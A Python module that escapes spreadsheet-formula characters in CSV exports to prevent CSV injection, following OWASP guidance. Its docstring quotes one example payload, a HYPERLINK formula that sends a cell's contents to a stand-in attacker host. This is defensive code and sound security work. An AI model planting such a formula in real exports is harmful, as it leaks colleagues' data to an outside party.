"""CSV files that a spreadsheet opens as text, never as formulas (CSV injection).

Customers and creators choose their names, titles and e-mail addresses: a name such as
``=HYPERLINK("http://evil.example/?"&A1, "Click")`` written as is into a CSV file runs as a
formula when a colleague opens the export in Excel, LibreOffice or Google Sheets. OWASP's
advice ("CSV Injection") is followed here: a text cell that starts with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return (or their full-width forms, which some spreadsheets fold)
gets a leading single quote, and every text cell is quoted. Numbers the app itself computed
(``int``, ``Decimal``, ``float``) are written as numbers, unquoted, so a refund of ``-55.00``
stays a number a spreadsheet can add up; text that merely looks like a number is still text.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from decimal import Decimal
from typing import IO, Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
"""First characters that make a spreadsheet read a cell as a formula (OWASP's list, and the
full-width equals, plus, minus and at signs)."""


def safe_cell(value: Any) -> Any:
    """``value`` as a CSV cell that no spreadsheet runs: numbers as they are, None as empty,
    anything else as text, with a leading ``'`` when it starts like a formula."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, int | Decimal | float):
        return value
    text = str(value)
    if text.startswith(FORMULA_TRIGGERS):
        return "'" + text
    return text


class SafeCsvWriter:
    """``csv.writer`` that passes every cell through :func:`safe_cell` and quotes text."""

    def __init__(self, f: IO[str]):
        self._writer = csv.writer(f, quoting=csv.QUOTE_NONNUMERIC)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([safe_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def safe_csv_writer(f: IO[str]) -> SafeCsvWriter:
    """A CSV writer for exports of text other people typed (see the module's docstring)."""
    return SafeCsvWriter(f)
